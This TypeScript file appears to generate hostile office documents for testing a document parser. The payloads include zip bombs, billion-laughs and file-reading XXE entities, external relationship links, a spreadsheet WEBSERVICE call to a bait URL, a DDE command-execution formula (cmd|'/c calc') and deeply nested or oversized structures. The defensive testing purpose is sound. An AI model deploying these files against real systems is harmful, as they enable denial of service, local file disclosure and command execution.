import { bomb, member, type RawMember, rawZip } from './bombs.ts';
import { type Bait, type HostileFile, noise } from './hostile-file.ts';

const main = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const sheets = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const slides = 'http://schemas.openxmlformats.org/presentationml/2006/main';
const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const declared = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const kinds = {
  word: [
    'word/document.xml',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
  ],
  xl: ['xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'],
  ppt: [
    'ppt/presentation.xml',
    'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
  ],
} as const;

/** Creates an office file with these members. */
function office(kind: keyof typeof kinds, members: readonly RawMember[]): Uint8Array {
  const [path, type] = kinds[kind];
  return rawZip([
    member(
      '[Content_Types].xml',
      `${declared}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/${path}" ContentType="${type}"/></Types>`,
    ),
    member('_rels/.rels', relations([[`${relation}/officeDocument`, path]])),
    ...members,
  ]);
}
const relations = (all: readonly (readonly [type: string, target: string, mode?: string])[]) =>
  `${declared}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.map(([type, target, mode], at) => `<Relationship Id="rId${at + 1}" Type="${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`).join('')}</Relationships>`;
const document = (body: string, before = '') =>
  `${declared}${before}<w:document xmlns:w="${main}" xmlns:r="${relation}"><w:body>${body}</w:body></w:document>`;
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const word = (body: string, ...more: readonly RawMember[]) =>
  office('word', [member('word/document.xml', document(body)), ...more]);
const book = (sheet: string, strings = '') =>
  office('xl', [
    member(
      'xl/workbook.xml',
      `${declared}<workbook xmlns="${sheets}" xmlns:r="${relation}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    member(
      'xl/_rels/workbook.xml.rels',
      relations([
        [`${relation}/worksheet`, 'worksheets/sheet1.xml'],
        [`${relation}/sharedStrings`, 'sharedStrings.xml'],
      ]),
    ),
    member(
      'xl/worksheets/sheet1.xml',
      `${declared}<worksheet xmlns="${sheets}"><sheetData>${sheet}</sheetData></worksheet>`,
    ),
    member('xl/sharedStrings.xml', `${declared}<sst xmlns="${sheets}">${strings}</sst>`),
  ]);
const open = (mimetype: string, content: RawMember) => rawZip([{ ...member('mimetype', mimetype) }, content]);
const odf =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"';

/** Documents of office programs. */
export const hostileOffice = ({ url, path }: Bait): readonly HostileFile[] => [
  {
    name: 'ten gigabytes.docx',
    make: () => office('word', [{ name: 'word/document.xml', packed: bomb(10_240), size: 0xffffffff }]),
  },
  {
    name: 'ten gigabytes that say a kilobyte.docx',
    make: () => office('word', [{ name: 'word/document.xml', packed: bomb(10_240), size: 1024 }]),
  },
  { name: 'ninety megabytes of elements.docx', make: () => word('<w:p/>'.repeat(15_000_000)) },
  {
    name: 'laughs.docx',
    make: () =>
      office('word', [
        member(
          'word/document.xml',
          document(
            '<w:p><w:r><w:t>&b;</w:t></w:r></w:p>',
            `<!DOCTYPE a [<!ENTITY a "lol"><!ENTITY b "${'&a;'.repeat(1000)}">]>`,
          ),
        ),
      ]),
  },
  {
    name: 'entity of a file.docx',
    make: () =>
      office('word', [
        member(
          'word/document.xml',
          document(paragraph('&x;'), `<!DOCTYPE a [<!ENTITY x SYSTEM "file://${path}">]>`),
        ),
      ]),
  },
  {
    name: 'tables in tables.docx',
    make: () =>
      word(
        `${'<w:tbl><w:tr><w:tc>'.repeat(30_000)}${paragraph('x')}${'</w:tc></w:tr></w:tbl>'.repeat(30_000)}`,
      ),
  },
  {
    name: 'a cell of a thousand million columns.docx',
    make: () =>
      word(
        `<w:tbl>${'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc></w:tr>'.repeat(100)}</w:tbl>`,
      ),
  },
  {
    name: 'links out.docx',
    make: () =>
      word(
        paragraph('text'),
        member(
          'word/_rels/document.xml.rels',
          relations([
            [`${relation}/attachedTemplate`, url, 'External'],
            [`${relation}/image`, url, 'External'],
            [`${relation}/oleObject`, `file://${path}`, 'External'],
          ]),
        ),
      ),
  },
  {
    name: 'macros and objects.docm',
    make: () =>
      word(
        paragraph('text'),
        member('word/vbaProject.bin', noise(10_000)),
        member('word/embeddings/oleObject1.bin', noise(10_000)),
      ),
  },
  { name: 'no document.docx', make: () => office('word', []) },
  {
    name: 'noise for a document.docx',
    make: () => office('word', [member('word/document.xml', noise(10_000))]),
  },
  {
    name: 'a document that ends in the middle.docx',
    make: () => office('word', [member('word/document.xml', document(paragraph('text')).slice(0, -40))]),
  },
  { name: 'cut.docx', make: () => word(paragraph('text'.repeat(1000))).subarray(0, 700) },
  {
    name: 'styles in a circle.docx',
    make: () =>
      word(
        '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr></w:p>',
        member(
          'word/styles.xml',
          `<w:styles xmlns:w="${main}"><w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>`,
        ),
        member('word/_rels/document.xml.rels', relations([[`${relation}/styles`, 'styles.xml']])),
      ),
  },
  {
    name: 'fields in fields.docx',
    make: () => word(`<w:p>${'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(100_000)}</w:p>`),
  },
  {
    name: 'the last cell.xlsx',
    make: () =>
      book(
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="99999999999"><c r="ZZZZZZZZ99999999999"><v>2</v></c></row>',
      ),
  },
  {
    name: 'strings that are not there.xlsx',
    make: () => book('<row r="1"><c r="A1" t="s"><v>4000000000</v></c><c r="B1" t="s"><v>-1</v></c></row>'),
  },
  {
    name: 'one long string for all cells.xlsx',
    make: () =>
      book(
        `<row r="1">${'<c t="s"><v>0</v></c>'.repeat(100_000)}</row>`,
        `<si><t>${'x'.repeat(30_000)}</t></si>`,
      ),
  },
  {
    name: 'formulas that reach out.xlsx',
    make: () =>
      book(
        `<row r="1"><c r="A1"><f>WEBSERVICE("${url}")</f></c><c r="B1"><f>cmd|'/c calc'!A1</f><v>1</v></c></row>`,
      ),
  },
  {
    name: 'dates beyond time.xlsx',
    make: () =>
      book('<row r="1"><c r="A1" s="1"><v>1e308</v></c><c r="B1" t="d"><v>9999-99-99</v></c></row>'),
  },
  {
    name: 'no slides.pptx',
    make: () => office('ppt', [member('ppt/presentation.xml', `<p:presentation xmlns:p="${slides}"/>`)]),
  },
  {
    name: 'cells again and again.ods',
    make: () =>
      open(
        'application/vnd.oasis.opendocument.spreadsheet',
        member(
          'content.xml',
          `<office:document-content ${odf}><office:body><office:spreadsheet><table:table table:name="A"><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`,
        ),
      ),
  },
  {
    name: 'spaces again and again.odt',
    make: () =>
      open(
        'application/vnd.oasis.opendocument.text',
        member(
          'content.xml',
          `<office:document-content ${odf}><office:body><office:text><text:p>a<text:s text:c="2000000000"/>b</text:p></office:text></office:body></office:document-content>`,
        ),
      ),
  },
  {
    name: 'sections in sections.odt',
    make: () =>
      open(
        'application/vnd.oasis.opendocument.text',
        member(
          'content.xml',
          `<office:document-content ${odf}><office:body><office:text>${'<text:section>'.repeat(100_000)}`,
        ),
      ),
  },
];
